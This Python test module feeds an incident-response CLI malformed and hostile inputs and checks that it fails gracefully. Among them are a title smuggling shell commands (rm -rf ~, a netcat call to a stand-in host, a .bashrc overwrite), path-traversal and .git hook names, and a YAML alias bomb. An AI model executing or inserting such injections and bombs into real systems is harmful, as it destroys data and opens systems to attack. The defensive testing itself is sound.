"""Malformed and hostile input, each given to the CLI the way a user (or GitHub) would.

A case prepares files in a temporary folder and says how incident-ops is invoked on
them. It is handled when the run ends with no traceback, with an exit code that is not
"unexpected error" (1), and either succeeds with a whole incident (one pull request, a
status comment, every phase file: nothing lost) or refuses with a message on stderr that
names what was wrong.

Cases are grouped by what they break: the issue text, the title, evidence files, the
configuration, the scenario file, the Actions event, the model's answers, the local
forge's state, and the command line itself.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import random
import shutil
import subprocess
import traceback
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal, NoReturn
from unittest import mock

from tests.reliability import sandbox
from tests.reliability.end_state import consistency_problems, end_state

BASE = "09-confirmation-email-typo"  # no evidence, no comments: the cheapest full run
EVIDENCE_BASE = "08-uk-prices-wrong-currency-symbol"  # real evidence (a log, changes)
Expect = Literal["ok", "refused", "either"]


@dataclass
class Invocation:
    """How to run one case: CLI arguments, extra environment, and what to inspect."""

    args: list[str]
    env: dict[str, str] = field(default_factory=dict)
    repo: Path | None = None  # a local repository whose end state must be whole on success
    keep: dict[str, str] = field(default_factory=dict)  # branch file -> text that must survive
    model: Callable[[Any], None] | None = None  # scripts the Messages API double
    github: bool = False  # needs the GitHub double (its address goes into the environment)


@dataclass(frozen=True)
class BadInput:
    id: str
    category: str
    description: str
    prepare: Callable[[Path], Invocation]
    expect: Expect = "either"
    names: str = ""  # a refusal's message must contain this (a file or field name)
    heavy: bool = False  # a full run on large input: the benchmark's, not the test suite's
    file: tuple[str, bytes | Callable[[], bytes]] | None = None  # evidence cases: what they add


@dataclass
class Verdict:
    case: BadInput
    code: int
    problems: list[str]
    stderr_tail: str = ""

    @property
    def handled(self) -> bool:
        return not self.problems


# --- building blocks ---------------------------------------------------------------------


def _scenario(tmp: Path, base: str = BASE) -> Path:
    return sandbox.copy_scenario(sandbox.SCENARIOS / base, tmp / "scenario")


def _replay(folder: Path, tmp: Path, *extra: str) -> Invocation:
    work = tmp / "work"
    return Invocation(
        ["replay", str(folder), "--json", "--workdir", str(work), *extra], repo=work / "repo"
    )


def issue_text(content: bytes) -> Callable[[Path], Invocation]:
    def prepare(tmp: Path) -> Invocation:
        folder = _scenario(tmp)
        (folder / "issue.md").write_bytes(content)
        return _replay(folder, tmp)

    return prepare


def title(text: str) -> Callable[[Path], Invocation]:
    def prepare(tmp: Path) -> Invocation:
        folder = _scenario(tmp)
        meta = sandbox.read_meta(folder)
        meta["title"] = text
        sandbox.write_meta(folder, meta)
        return _replay(folder, tmp)

    return prepare


def evidence(*files: tuple[str, bytes | Callable[[], bytes]]) -> Callable[[Path], Invocation]:
    """The evidence scenario (its comments left out: one run is enough to judge how
    evidence is read) with `files` added, or replacing files of the same name."""

    def prepare(tmp: Path) -> Invocation:
        folder = _scenario(tmp, EVIDENCE_BASE)
        meta = sandbox.read_meta(folder)
        meta["comments"] = []
        sandbox.write_meta(folder, meta)
        for name, content in files:
            sandbox.add_evidence(folder, name, content() if callable(content) else content)
        return _replay(folder, tmp)

    return prepare


def evidence_case(
    case_id: str,
    description: str,
    name: str,
    content: bytes | Callable[[], bytes],
    *,
    heavy: bool = False,
) -> BadInput:
    """A malformed evidence file: the run must go on and produce a whole incident."""
    file = (name, content)
    return BadInput(case_id, "evidence", description, evidence(file), "ok", heavy=heavy, file=file)


def together(cases: list[BadInput], case_id: str = "evidence-together") -> list[BadInput]:
    """Evidence cases merged into as few runs as their file names allow (the suite's
    shortcut; the benchmark runs each case alone)."""
    groups: list[list[BadInput]] = []
    for case in cases:
        assert case.file is not None, case.id
        group = next((g for g in groups if all(c.file[0] != case.file[0] for c in g)), None)  # type: ignore[index]
        if group is None:
            groups.append([case])
        else:
            group.append(case)
    return [
        BadInput(
            f"{case_id}-{n}",
            "evidence",
            ", ".join(c.id for c in group),
            evidence(*(c.file for c in group if c.file is not None)),
            "ok",
        )
        for n, group in enumerate(groups, 1)
    ]


def config(content: bytes) -> Callable[[Path], Invocation]:
    def prepare(tmp: Path) -> Invocation:
        folder = _scenario(tmp)
        (folder / "incident-ops.yml").write_bytes(content)
        return _replay(folder, tmp)

    return prepare


def meta_text(content: bytes) -> Callable[[Path], Invocation]:
    def prepare(tmp: Path) -> Invocation:
        folder = _scenario(tmp)
        (folder / "scenario.yaml").write_bytes(content)
        return _replay(folder, tmp)

    return prepare


def comment(body: str, author: str = "oncall-ravi") -> Callable[[Path], Invocation]:
    def prepare(tmp: Path) -> Invocation:
        folder = _scenario(tmp)
        sandbox.add_comment(folder, author, body, permission="write")
        return _replay(folder, tmp)

    return prepare


def event(name: str, content: bytes | None) -> Callable[[Path], Invocation]:
    """`incident-ops action` on an event file (None: the file does not exist)."""

    def prepare(tmp: Path) -> Invocation:
        path = tmp / "event.json"
        if content is not None:
            path.write_bytes(content)
        env = {
            "GITHUB_ACTIONS": "true",
            "GITHUB_EVENT_NAME": name,
            "GITHUB_EVENT_PATH": str(path),
            "GITHUB_STEP_SUMMARY": str(tmp / "summary.md"),
            "INCIDENT_OPS_WRITE_PAUSE_S": "0",
        }
        return Invocation(["action"], env=env, github=True)

    return prepare


def model(script: Callable[[Any], None]) -> Callable[[Path], Invocation]:
    """A replay answered by the Messages API double, scripted to misbehave."""

    def prepare(tmp: Path) -> Invocation:
        invocation = _replay(_scenario(tmp), tmp, "--backend", "anthropic")
        invocation.model = script
        return invocation

    return prepare


def state(corrupt: Callable[[Path], dict[str, str]]) -> Callable[[Path], Invocation]:
    """A local repository worked once, then damaged by `corrupt`, then worked again.

    `corrupt` returns the branch files (path -> text) that must still be there after."""

    def prepare(tmp: Path) -> Invocation:
        from incident_ops.usecases.respond import respond

        repo = tmp / "repo"
        forge = sandbox.file_locally(sandbox.SCENARIOS / BASE, repo)
        respond(forge, 1, cache_dir=repo / ".incident-ops" / "cache")  # as the CLI does
        keep = corrupt(repo)
        return Invocation(["respond", "1", "--local", "--path", str(repo)], repo=repo, keep=keep)

    return prepare


def cli(*args: str) -> Callable[[Path], Invocation]:
    def prepare(tmp: Path) -> Invocation:
        return Invocation([arg.replace("{tmp}", str(tmp)) for arg in args])

    return prepare


# --- generated content -------------------------------------------------------------------


def _random_bytes(size: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(size)


def _log_lines(megabytes: int) -> bytes:
    """A realistic application log of about `megabytes` MB."""
    rng = random.Random(3)
    lines = []
    size = 0
    second = 0
    while size < megabytes * 1024 * 1024:
        second += 1
        minute, sec = divmod(second // 20, 60)
        hour = 13 + minute // 60
        level = "error" if rng.random() < 0.05 else "info"
        line = (
            f"ts=2026-03-02T{hour % 24:02d}:{minute % 60:02d}:{sec:02d}.000Z level={level} "
            f'pod=checkout-api-{rng.randrange(9)} msg="request completed" method=POST '
            f"path=/v1/checkout/pay status={500 if level == 'error' else 200} "
            f"duration_ms={rng.randrange(20, 900)} req_id=ck-{second:x}\n"
        )
        lines.append(line)
        size += len(line)
    return "".join(lines).encode()


def _openmetrics(series: int, points: int) -> bytes:
    lines = ["# TYPE junk_total counter"]
    for s in range(series):
        for p in range(points):
            lines.append(f'junk_total{{shard="{s}"}} {p * 3} {1772456400 + p * 60}')
    lines.append("# EOF")
    return ("\n".join(lines) + "\n").encode()


def _alertmanager(**overrides: Any) -> bytes:
    body: dict[str, Any] = {
        "version": "4",
        "status": "firing",
        "receiver": "x",
        "alerts": [
            {
                "status": "firing",
                "labels": {"alertname": "Broken", "severity": "critical"},
                "annotations": {"summary": "s"},
                "startsAt": "2026-03-02T13:58:15Z",
            }
        ],
    }
    body.update(overrides)
    return json.dumps(body).encode()


_BILLION_LAUGHS = b"""\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


def _schema_violation(double: Any) -> None:
    double.violate_schema(times=None)


def _prose_answer(double: Any) -> None:
    double.violate_schema(times=None, text="I am sorry, I cannot produce JSON for this.")


def _truncated_answer(double: Any) -> None:
    double.violate_schema(times=None, text='{"headline": "Checkout is', stop_reason="max_tokens")


def _always_500(double: Any) -> None:
    double.fail(500, times=None)


def _huge_answer(double: Any) -> None:
    """Every string of the answer 4,000 characters long: an answer at max_tokens (the
    API cannot send more than that), whatever the schema's own limits say."""
    from tests.anthropic_double.schema_fill import instance_for

    def fill(body: dict[str, Any]) -> dict[str, Any]:
        grown: dict[str, Any] = _grow(instance_for(body["output_config"]["format"]["schema"]))
        return grown

    double.answer(fill)


def _grow(value: Any) -> Any:
    if isinstance(value, str):
        return (value + " ") * max(1, 4_000 // (len(value) + 1)) if value else value
    if isinstance(value, dict):
        return {key: _grow(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_grow(item) for item in value]
    return value


def _wrong_enum(double: Any) -> None:
    from tests.anthropic_double.schema_fill import instance_for

    def fill(body: dict[str, Any]) -> dict[str, Any]:
        value: dict[str, Any] = instance_for(body["output_config"]["format"]["schema"])
        for key in ("severity", "status", "type", "confidence"):
            if key in value:
                value[key] = "P9" if key != "confidence" else 7.5
        return value

    double.answer(fill)


# --- state damage ------------------------------------------------------------------------


def _branch_files(repo: Path) -> dict[str, str]:
    from tests.reliability.end_state import files_on

    return {p: t.decode() for p, t in files_on(repo, "refs/heads/incident/1").items()}


def _corrupt_issue_file(repo: Path) -> dict[str, str]:
    keep = _branch_files(repo)
    (repo / ".incident-ops" / "issues" / "1.yaml").write_text("title: [unclosed\nbody: |\n")
    return keep


def _corrupt_branch_file(suffix: str, text: str) -> Callable[[Path], dict[str, str]]:
    """Commit `text` over the branch file ending in `suffix` (a person's bad edit)."""

    def corrupt(repo: Path) -> dict[str, str]:
        from incident_ops.forge.local import LocalForge

        files = _branch_files(repo)
        path = next(p for p in files if p.endswith(suffix))
        LocalForge(repo).commit_files("incident/1", {path: text}, "hand edit")
        return {name: content for name, content in files.items() if name.endswith(".md")}

    return corrupt


def _corrupt_cache(repo: Path) -> dict[str, str]:
    for path in (repo / ".incident-ops" / "cache").rglob("*.json"):
        path.write_bytes(b'{"output": {"headline": ')
    (repo / ".incident-ops" / "cache" / "1" / "junk.json").write_bytes(b"\x00\xff")
    return _branch_files(repo)


def _corrupt_counters(repo: Path) -> dict[str, str]:
    (repo / ".incident-ops" / "counters.yaml").write_text("number: many\ncomment: [\n")
    return _branch_files(repo)


# --- the corpus --------------------------------------------------------------------------

_NESTED_JSON = b"[" * 200_000 + b"]" * 200_000
_NUL_TEXT = b"checkout \x00\x00 fails\x00\n" * 50

CASES: tuple[BadInput, ...] = (
    # the issue body
    BadInput("issue-empty", "issue", "empty body", issue_text(b""), "ok"),
    BadInput("issue-blank", "issue", "only whitespace", issue_text(b" \n\t\n\r\n  "), "ok"),
    BadInput(
        "issue-huge",
        "issue",
        "a 3 MB body",
        issue_text(b"Checkout fails for some users, see below.\n" * 70_000),
        "ok",
        heavy=True,
    ),
    BadInput("issue-binary", "issue", "random bytes", issue_text(_random_bytes(20_000)), "ok"),
    BadInput(
        "issue-invalid-utf8",
        "issue",
        "invalid UTF-8 sequences",
        issue_text(b"\xff\xfe checkout \xc3\x28 fails \xa0\xa1 since 08:00\n\xed\xa0\x80"),
        "ok",
    ),
    BadInput("issue-nul", "issue", "NUL characters", issue_text(_NUL_TEXT), "ok"),
    BadInput(
        "issue-terminal-escapes",
        "issue",
        "ANSI escapes and carriage returns",
        issue_text(b"\x1b[2J\x1b[31mred\x1b[0m\rOVERWRITE\x07\x08\x1b]0;title\x07\n"),
        "ok",
    ),
    BadInput(
        "issue-one-line", "issue", "one 600 kB line", issue_text(b"a" * 600_000), "ok", heavy=True
    ),
    BadInput(
        "issue-deep-quotes",
        "issue",
        "5,000 nested blockquotes and lists",
        issue_text(b">" * 5000 + b" deep\n" + b"".join(b"  " * i + b"- x\n" for i in range(300))),
        "ok",
    ),
    BadInput(
        "issue-lone-surrogates",
        "issue",
        "JSON-escaped lone surrogates in text",
        issue_text('{"msg": "\\ud800\\udfff\\udc00"} \ud83d'.encode("utf-8", "surrogatepass")),
        "ok",
    ),
    # the title
    BadInput("title-traversal", "title", "path traversal", title("../../../../etc/passwd"), "ok"),
    BadInput(
        "title-shell",
        "title",
        "shell metacharacters",
        title("$(touch /tmp/pwned) `id`; rm -rf ~ | nc evil 1 && echo >~/.bashrc"),
        "ok",
    ),
    BadInput("title-dot-git", "title", "a .git path", title(".git/hooks/pre-commit"), "ok"),
    BadInput("title-empty", "title", "empty title", title(""), "either", names="title"),
    BadInput("title-long", "title", "5,000 characters", title("checkout " * 600), "ok"),
    BadInput(
        "title-control",
        "title",
        "newlines, NUL and escapes",
        title("line one\nline two\r\x00\x1b[31m"),
        "either",
        names="title",
    ),
    BadInput("title-emoji", "title", "no letters at all", title("🔥💥🔥 ‮!!!"), "ok"),
    BadInput(
        "title-windows",
        "title",
        "reserved Windows names",
        title("CON:AUX\\..\\NUL *?<>|"),
        "ok",
    ),
    # evidence files
    evidence_case(
        "json-truncated",
        "an Alertmanager body cut in half",
        "cut.alertmanager.json",
        _alertmanager()[:70],
    ),
    evidence_case(
        "json-not-object",
        "a JSON list where an object belongs",
        "list.alertmanager.json",
        b"[1, 2, 3]",
    ),
    evidence_case("json-null", "JSON null", "x.pagerduty.json", b"null"),
    evidence_case("json-deep", "200,000 nested arrays", "deep.sentry.json", _NESTED_JSON),
    evidence_case(
        "json-odd-numbers",
        "NaN, Infinity and 1e400",
        "nums.datadog.json",
        b'{"title": "x", "date": 1e400, "value": NaN, "last_updated": -Infinity}',
    ),
    evidence_case(
        "json-wrong-types",
        "fields of the wrong type",
        "types.alertmanager.json",
        _alertmanager(alerts=[{"labels": ["a"], "annotations": 5, "startsAt": 12}, "x", None]),
    ),
    evidence_case(
        "otlp-wrong-types",
        "OTLP spans with strings for numbers",
        "t.otlp.json",
        json.dumps(
            {
                "resourceSpans": [
                    {
                        "scopeSpans": [
                            {
                                "spans": [
                                    {
                                        "name": 5,
                                        "startTimeUnixNano": "soon",
                                        "endTimeUnixNano": -1,
                                        "status": "bad",
                                        "attributes": {"k": "v"},
                                    },
                                    None,
                                    "span",
                                ]
                            }
                        ]
                    }
                ]
            }
        ).encode(),
    ),
    evidence_case("om-garbage", "garbage OpenMetrics", "garbage.om", _random_bytes(50_000, 11)),
    evidence_case(
        "om-no-eof",
        "OpenMetrics without # EOF and with broken lines",
        "noeof.om",
        b'# TYPE x gauge\nx{a="1"} 1 1772456400\nx{a="1} 2 17724\nx 3 abc\n{}} 4\n',
    ),
    evidence_case(
        "om-odd-values",
        "NaN, +Inf, huge and negative timestamps",
        "odd.om",
        b"# TYPE y gauge\ny NaN 1772456400\ny +Inf 1772456460\ny -Inf 1772456520\n"
        b"y 1e308 1772456580\ny 5 -99999999999\ny 6 99999999999999\ny 7 1772456400\n# EOF\n",
    ),
    evidence_case(
        "om-cardinality",
        "20,000 series",
        "wide.om",
        lambda: _openmetrics(20_000, 3),
        heavy=True,
    ),
    evidence_case("log-20mb", "a 20 MB log", "big.log", lambda: _log_lines(20), heavy=True),
    evidence_case(
        "log-one-line",
        "an 8 MB log without a newline",
        "oneline.log",
        lambda: b"x" * 8_000_000,
        heavy=True,
    ),
    evidence_case(
        "log-binary",
        "1 MB of random bytes as a log",
        "bin.log",
        lambda: _random_bytes(1_000_000, 5),
    ),
    evidence_case(
        "log-invalid-utf8",
        "log lines with invalid UTF-8",
        "bad.log",
        b'ts=2026-03-02T13:58:00Z level=error msg="\xff\xfe boom \xc3\x28"\n' * 200,
    ),
    evidence_case(
        "jsonl-broken",
        "JSON lines, half of them broken",
        "half.jsonl",
        b'{"ts": "2026-03-02T13:58:00Z", "level": "error", "msg": "x"}\n{"ts": \n'
        b'[1,2]\nnull\n"str"\n' * 100,
    ),
    evidence_case(
        "changes-invalid-yaml",
        "invalid YAML changes",
        "changes.yaml",
        b"- at: [unclosed\n  service: {\n",
    ),
    evidence_case(
        "changes-wrong-shape",
        "changes that are not a list of changes",
        "changes.yaml",
        b"- 1\n- [a, b]\n- {at: 5, service: [x], kind: 7}\n- null\n",
    ),
    evidence_case("changes-yaml-bomb", "a YAML alias bomb", "changes.yaml", _BILLION_LAUGHS),
    evidence_case(
        "changes-bad-dates",
        "impossible dates",
        "changes.yaml",
        b"- {at: '2026-13-45T99:99:99Z', service: checkout-api, kind: deploy, ref: a}\n"
        b"- {at: 99999999999999, service: checkout-api, kind: deploy, ref: b}\n"
        b"- {at: '0000-01-01', service: checkout-api, kind: deploy, ref: c}\n",
    ),
    evidence_case("evidence-empty-json", "an empty JSON file", "empty.alertmanager.json", b""),
    evidence_case("evidence-empty-log", "an empty log", "empty.log", b""),
    evidence_case(
        "evidence-odd-name",
        "a name with spaces and emoji",
        "évidence 🔥 (copy).log",
        b"ts=2026-03-02T13:58:00Z level=error msg=x\n",
    ),
    evidence_case(
        "evidence-hidden-name",
        "a dot file and a name without a suffix",
        ".hidden",
        b"ts=2026-03-02T13:58:00Z level=error msg=hidden\n",
    ),
    # the configuration
    BadInput(
        "config-invalid-yaml",
        "config",
        "invalid YAML",
        config(b"services: [unclosed\n  x: {\n"),
        "refused",
        names="incident-ops.yml",
    ),
    BadInput(
        "config-unknown-field",
        "config",
        "a misspelt field",
        config(b"services:\n  api:\n    ownres: [a]\n"),
        "refused",
        names="ownres",
    ),
    BadInput(
        "config-wrong-type",
        "config",
        "a tier that is not a number",
        config(b"services:\n  api:\n    tier: high\n"),
        "refused",
        names="tier",
    ),
    BadInput(
        "config-list",
        "config",
        "a list instead of a mapping",
        config(b"- a\n- b\n"),
        "refused",
        names="incident-ops.yml",
    ),
    BadInput("config-empty", "config", "an empty file", config(b""), "ok"),
    BadInput(
        "config-binary",
        "config",
        "random bytes",
        config(_random_bytes(4000, 9)),
        "refused",
        names="incident-ops.yml",
    ),
    BadInput(
        "config-out-of-range",
        "config",
        "values out of range",
        config(b"models:\n  max_tokens: 0\ncadence:\n  minutes: {P0: -5}\n"),
        "refused",
        names="max_tokens",
    ),
    BadInput(
        "config-bomb",
        "config",
        "a YAML alias bomb",
        config(_BILLION_LAUGHS),
        "refused",
        names="incident-ops.yml",
    ),
    # the scenario file
    BadInput(
        "scenario-invalid-yaml",
        "scenario",
        "invalid YAML",
        meta_text(b"title: [unclosed\n"),
        "refused",
        names="scenario.yaml",
    ),
    BadInput(
        "scenario-missing-fields",
        "scenario",
        "no opened_at",
        meta_text(b"title: x\nauthor: a\n"),
        "refused",
        names="opened_at",
    ),
    BadInput(
        "scenario-bad-date",
        "scenario",
        "an impossible date",
        meta_text(b"title: x\nauthor: a\nopened_at: '2026-02-30T25:61:00Z'\n"),
        "refused",
        names="opened_at",
    ),
    BadInput(
        "scenario-bad-permission",
        "scenario",
        "an unknown permission",
        meta_text(
            b"title: x\nauthor: a\nauthor_permission: god\nopened_at: '2026-03-01T00:00:00Z'\n"
        ),
        "refused",
        names="author_permission",
    ),
    # comments
    BadInput("comment-empty", "comment", "an empty comment", comment(""), "ok"),
    BadInput(
        "comment-huge",
        "comment",
        "a 2 MB comment",
        comment("more logs\n" * 200_000),
        "ok",
        heavy=True,
    ),
    BadInput("comment-nul", "comment", "NUL characters", comment("a\x00b\x00" * 100), "ok"),
    BadInput(
        "comment-mention-flood",
        "comment",
        "10,000 mentions",
        comment(" ".join(f"@user{n}" for n in range(10_000))),
        "ok",
    ),
    BadInput(
        "comment-bad-command",
        "comment",
        "commands with bad arguments",
        comment("/incident sev P9\n/incident status exploded\n/incident role king @x\n/incident"),
        "ok",
    ),
    # the Actions event
    BadInput("event-unknown", "event", "an unknown event type", event("watch", b"{}"), "ok"),
    BadInput(
        "event-truncated",
        "event",
        "a truncated payload",
        event("issues", b'{"action": "opened", "issue": {"num'),
        "refused",
        names="event.json",
    ),
    BadInput(
        "event-not-object",
        "event",
        "a JSON list",
        event("issues", b"[1]"),
        "refused",
        names="event.json",
    ),
    BadInput(
        "event-missing-file",
        "event",
        "no payload file",
        event("issues", None),
        "refused",
        names="event.json",
    ),
    BadInput(
        "event-binary",
        "event",
        "random bytes",
        event("issues", _random_bytes(300, 2)),
        "refused",
        names="event.json",
    ),
    BadInput(
        "event-unknown-action",
        "event",
        "a known event with an unknown action",
        event("issues", b'{"action": "teleported", "sender": {"login": "a", "type": "User"}}'),
        "ok",
    ),
    BadInput(
        "event-wrong-types",
        "event",
        "fields of the wrong type",
        event(
            "schedule",
            b'{"schedule": 5, "repository": "x", "sender": []}',
        ),
        "either",
    ),
    # the model's answers
    BadInput(
        "model-schema-violation",
        "model",
        "answers that break the schema",
        model(_schema_violation),
        "ok",
    ),
    BadInput("model-prose", "model", "prose instead of JSON", model(_prose_answer), "ok"),
    BadInput(
        "model-truncated", "model", "JSON cut off at max_tokens", model(_truncated_answer), "ok"
    ),
    BadInput("model-500", "model", "every call fails with 500", model(_always_500), "ok"),
    BadInput(
        "model-huge",
        "model",
        "4,000-character strings in every field",
        model(_huge_answer),
        "ok",
        heavy=True,
    ),
    BadInput("model-wrong-enum", "model", "values outside the enums", model(_wrong_enum), "ok"),
    # the local forge's state
    BadInput(
        "state-issue-file",
        "state",
        "the issue's state file is not YAML",
        state(_corrupt_issue_file),
        "refused",
        names="1.yaml",
    ),
    BadInput(
        "state-results-json",
        "state",
        "results.json on the branch is cut short",
        state(_corrupt_branch_file("/results.json", '{"triage": {"sev')),
        "ok",
    ),
    BadInput(
        "state-incident-yaml",
        "state",
        "incident.yaml on the branch is not YAML",
        state(_corrupt_branch_file("/incident.yaml", "severity: [P1\n")),
        "either",
        names="incident.yaml",
    ),
    BadInput("state-cache", "state", "cache files cut short", state(_corrupt_cache), "ok"),
    BadInput(
        "state-counters",
        "state",
        "the counters file is garbage",
        state(_corrupt_counters),
        "either",
        names="counters.yaml",
    ),
    # the command line
    BadInput(
        "cli-missing-issue",
        "cli",
        "an issue that does not exist",
        cli("respond", "99", "--local", "--path", "{tmp}/repo"),
        "refused",
        names="repo",
    ),
    BadInput(
        "cli-not-a-repo",
        "cli",
        "a folder that is not a repository",
        cli("respond", "1", "--local", "--path", "{tmp}"),
        "refused",
        names="not a git",
    ),
    BadInput(
        "cli-missing-scenario",
        "cli",
        "a scenario folder that does not exist",
        cli("replay", "{tmp}/nowhere"),
        "refused",
        names="nowhere",
    ),
    BadInput(
        "cli-scenario-is-file",
        "cli",
        "a file where a scenario folder belongs",
        cli("replay", "/etc/hostname"),
        "refused",
        names="hostname",
    ),
)


def _prepare_missing_issue(tmp: Path) -> None:
    sandbox.file_locally(sandbox.SCENARIOS / BASE, tmp / "repo")


# --- running -----------------------------------------------------------------------------

Runner = Callable[[list[str], Mapping[str, str]], tuple[int, str, str]]
TIME_LIMIT_S = 60.0  # a case still running after this is not handled (a hang or a blow-up)
TIMED_OUT = -1000


def run_subprocess(args: list[str], env: Mapping[str, str]) -> tuple[int, str, str]:
    try:
        done = sandbox.run_cli(args, env=sandbox.base_environment(env), timeout=TIME_LIMIT_S)
    except subprocess.TimeoutExpired as expired:
        return TIMED_OUT, _text(expired.stdout or b""), _text(expired.stderr or b"")
    return done.returncode, done.stdout.decode("utf-8", "replace"), _text(done.stderr)


class _ProcessExit(BaseException):
    """os._exit(code) inside run_in_process: the run is over, with this code."""

    def __init__(self, code: int) -> None:
        super().__init__(code)
        self.code = code


def _exit_here(code: int) -> NoReturn:
    raise _ProcessExit(code)


def run_in_process(args: list[str], env: Mapping[str, str]) -> tuple[int, str, str]:
    """`incident-ops ARGS` in this process; an escaping exception is printed as Python
    would print it, so the traceback check sees it the same way. `action` ends its
    process with os._exit (as a workflow step should): here that ends the run with its
    code instead of ending the test process."""
    from incident_ops.cli import main

    out, err = io.StringIO(), io.StringIO()
    with (
        _environment(sandbox.base_environment(env)),
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
        mock.patch.object(os, "_exit", _exit_here),
    ):
        try:
            code = main(args)
        except _ProcessExit as exit_:
            code = exit_.code
        except SystemExit as exit_:
            code = exit_.code if isinstance(exit_.code, int) else 2
        except BaseException:  # a crash is what this runner reports
            traceback.print_exc()
            code = 1
    return code, out.getvalue(), err.getvalue()


@contextlib.contextmanager
def _environment(values: Mapping[str, str]) -> Iterator[None]:
    saved = dict(os.environ)
    os.environ.clear()
    os.environ.update(values)
    try:
        yield
    finally:
        os.environ.clear()
        os.environ.update(saved)


def _text(data: bytes) -> str:
    return data.decode("utf-8", "replace")


def judge(case: BadInput, tmp: Path, runner: Runner = run_subprocess) -> Verdict:
    """Run `case` in `tmp` and say what (if anything) went wrong."""
    from tests.anthropic_double.server import DEFAULT_API_KEY, MessagesDouble

    if case.id == "cli-missing-issue":
        _prepare_missing_issue(tmp)
    invocation = case.prepare(tmp)
    with contextlib.ExitStack() as stack:
        if invocation.model is not None:
            double = stack.enter_context(MessagesDouble())
            invocation.model(double)
            invocation.env.update(
                ANTHROPIC_API_KEY=DEFAULT_API_KEY, ANTHROPIC_BASE_URL=double.base_url
            )
        if invocation.github:
            from tests.github_double.fixtures import OWNER, REPO, TOKEN, started_double

            github = stack.enter_context(started_double())
            invocation.env.update(
                GITHUB_REPOSITORY=f"{OWNER}/{REPO}", GITHUB_TOKEN=TOKEN, GITHUB_API_URL=github.url
            )
        code, stdout, stderr = runner(invocation.args, invocation.env)
    # Under Actions, messages are workflow commands on stdout (`::error::...`).
    said = stderr + (stdout if invocation.github else "")
    problems = []
    if code == TIMED_OUT:
        problems.append(f"still running after {TIME_LIMIT_S:.0f} s")
    if "Traceback" in stderr:
        problems.append("a traceback on stderr")
    if code not in (0, 2, 3, 4, 5, TIMED_OUT):
        problems.append(f"exit code {code}")
    if case.expect == "ok" and code != 0:
        problems.append(f"expected a graceful result, got exit {code}")
    if case.expect == "refused" and code == 0:
        problems.append("expected a refusal with a message, got success")
    if code != 0 and not problems:
        message = said.strip()
        if not message:
            problems.append("refused without a message")
        elif case.names and case.names.lower() not in message.lower():
            problems.append(f"the message does not name {case.names!r}")
    if code == 0 and invocation.repo is not None and (invocation.repo / ".git").is_dir():
        problems += consistency_problems(end_state(invocation.repo))
        on_branch = _branch_files(invocation.repo)
        problems += [f"lost {path}" for path in invocation.keep if path not in on_branch]
    if code != 0 and invocation.keep and invocation.repo is not None:
        on_branch = _branch_files(invocation.repo)
        problems += [f"lost {path}" for path in invocation.keep if path not in on_branch]
    return Verdict(case, code, problems, stderr[-600:])


def judge_all(
    cases: tuple[BadInput, ...] | list[BadInput], root: Path, runner: Runner = run_subprocess
) -> list[Verdict]:
    verdicts = []
    for case in cases:
        folder = root / case.id
        folder.mkdir(parents=True)
        verdicts.append(judge(case, folder, runner))
        shutil.rmtree(folder, ignore_errors=True)
    return verdicts
